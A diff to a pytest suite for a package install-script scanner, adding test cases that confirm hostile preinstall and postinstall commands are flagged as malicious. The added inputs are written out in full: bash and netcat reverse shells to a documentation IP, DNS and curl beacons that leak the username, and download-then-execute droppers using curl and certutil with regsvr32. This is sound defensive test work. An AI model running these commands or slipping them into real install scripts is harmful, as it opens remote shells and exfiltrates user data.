@@ -42,6 +42,10 @@ def rules(art: Artifact) -> set[str]:
     ("nslookup $(whoami).$(hostname).oast.example", "install-script/host-recon"),
     ("nslookup $(whoami).oast.example", "install-script/network-tool"),
     ("curl http://203.0.113.7:8080/beacon", "install-script/raw-ip"),
+    ("bash -c 'bash -i >& /dev/tcp/198.51.100.9/9001 0>&1' &", "install-script/reverse-shell"),
+    ("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.9 4444 > /tmp/f", "install-script/reverse-shell"),
+    ("nslookup $(whoami).oast.example", "install-script/beacon"),
+    ("curl -d u=$(whoami) https://hooks.example/c", "install-script/beacon"),
 ])
 def test_attack_patterns_are_flagged(command, rule):
     found = findings(artifact({"preinstall": command}))
@@ -113,3 +117,23 @@ def test_allowed_packages_are_reported_but_do_not_count():
     found = findings(artifact({"postinstall": "curl https://x.example/a | sh"}), settings)
     assert found and all(f.severity is Severity.INFO for f in found)
     assert "allowed by policy" in found[0].message
+
+
+@pytest.mark.parametrize("command", [
+    "bash -c 'bash -i >& /dev/tcp/198.51.100.9/9001 0>&1' &",
+    "nslookup $(hostname).$(whoami).oast.example",
+])
+def test_reverse_shells_and_beacons_are_malicious_alone(command):
+    assert decide(findings(artifact({"postinstall": command}))).level is Level.MALICIOUS
+
+
+def test_shell_file_that_downloads_then_runs_is_a_dropper():
+    script = (b"#!/bin/sh\ncurl -s https://dl.example/agent -o /tmp/agent\nchmod +x /tmp/agent\n/tmp/agent --daemon &\n")
+    found = findings(artifact({"postinstall": "sh setup.sh"}, {"setup.sh": script}))
+    drop = next(f for f in found if f.rule == "install-script/download-execute")
+    assert drop.file == "setup.sh" and drop.line == 3 and drop.details["downloaded_at"] == 2
+    batch = (b"@echo off\r\ncertutil.exe -urlcache -f https://dl.example/a.dll a.dll\r\nregsvr32.exe -s a.dll\r\n")
+    assert "install-script/download-execute" in rules(artifact({"preinstall": "cmd /c setup.bat"}, {"setup.bat": batch}))
+    # Downloading a prebuilt archive and unpacking it is not running a download.
+    fetch_only = b"curl -sL https://github.com/o/r/releases/download/v1/x.tgz -o x.tgz\ntar xzf x.tgz\n"
+    assert "install-script/download-execute" not in rules(artifact({"install": "sh get.sh"}, {"get.sh": fetch_only}))
